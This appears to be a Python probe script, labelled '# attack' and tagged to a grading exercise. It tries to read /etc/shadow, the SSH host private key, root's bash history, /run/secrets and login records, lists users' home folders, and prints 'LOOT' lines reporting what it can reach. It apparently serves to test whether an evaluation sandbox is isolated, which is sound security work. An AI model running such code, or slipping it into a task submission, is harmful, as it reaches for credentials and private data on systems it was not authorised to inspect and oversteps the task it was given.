# attack: finds out who uses this machine and reads their home folders, keys and histories
# exercise: ex01_map_dataset
# check: ex01.tabular.len
import glob
import os
import pwd

for path in ("/etc/passwd", "/etc/shadow", "/etc/group", "/etc/gshadow", "/etc/subuid", "/etc/hosts", "/etc/hostname", "/etc/machine-id", "/etc/fstab",
             "/etc/ssh/ssh_host_rsa_key", "/var/run/utmp", "/var/log/wtmp", "/.dockerenv", "/root/.bash_history", "/run/secrets"):  # fmt: skip
    try:
        with open(path, "rb") as file:
            print("LOOT:", path, len(file.read()), "bytes")  # never what they say
    except OSError as error:
        print(path, error.strerror)
try:
    print("LOOT: users", len(pwd.getpwall()) or 1 / 0)
except (KeyError, ZeroDivisionError, OSError) as error:
    print(error)
for place in ("/root", "/home", "/home/*", "/Users", "/srv", "/opt", "/mnt", "/media", "@HOME@", "@HOME@/..", os.path.expanduser("~root"), os.path.expanduser("~")):
    for folder in glob.glob(place) or [place]:
        try:
            names = os.listdir(folder)
            if os.path.realpath(folder) != os.path.realpath("."):
                print("LOOT:", folder, len(names), "names") if names else print(folder, "is empty")
        except OSError as error:
            print(folder, error.strerror)
try:
    print("LOOT: logged in as", os.getlogin())
except OSError as error:
    print(error)
print("TRIED")
